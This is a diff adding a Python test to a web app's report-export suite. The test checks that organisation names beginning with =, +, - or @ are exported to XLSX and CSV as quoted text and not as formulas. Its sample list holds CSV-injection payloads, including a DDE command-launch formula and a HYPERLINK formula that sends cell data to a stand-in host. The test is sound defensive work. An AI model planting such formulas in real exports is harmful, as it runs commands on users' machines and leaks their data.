@@ -276,3 +276,28 @@ def test_report_readers(county: County, served: Served) -> None:
     assert county.as_("office").get("/api/v1/reports/1999/progress.xlsx").status_code == 422
     with served.client(token=None) as anonymous:
         assert anonymous.get(f"/api/v1/reports/{YEAR}/progress").status_code == 401
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", '=HYPERLINK("http://evil.example/?x="&A1)']
+
+
+def test_a_name_a_spreadsheet_would_run_is_exported_as_text(county: County) -> None:
+    """OWASP's CSV injection advice: a text cell starting with = + - @ (or tab, CR) gets a leading quote."""
+    office = county.as_("office")
+    for name in FORMULAS:
+        office.post("/api/v1/orgs", json={"name": name, "kind": "branch", "parent_id": county.orgs["committee"]})
+    report = ok(office.get(f"/api/v1/reports/{YEAR}/progress"))
+    assert set(FORMULAS) <= {row["name"] for row in report["orgs"]}, "the JSON keeps the names as they are"
+
+    book = openpyxl.load_workbook(io.BytesIO(office.get(f"/api/v1/reports/{YEAR}/progress.xlsx").content))
+    sheet = book["工作进展"]
+    names = [row[0] for row in sheet.iter_rows(min_row=3, values_only=True)]
+    assert {"'" + name for name in FORMULAS} <= set(names) and not set(FORMULAS) & set(names)
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "no formula anywhere"
+    counts = next(row for row in sheet.iter_rows(min_row=3, values_only=True) if row[0] == "'" + FORMULAS[0])
+    assert counts[HEADERS.index("承诺书数")] == 0, "numbers stay numbers"
+
+    text = office.get(f"/api/v1/reports/{YEAR}/progress.csv").content.decode("utf-8-sig")
+    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
+    assert {"'" + name for name in FORMULAS} <= set(cells)
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
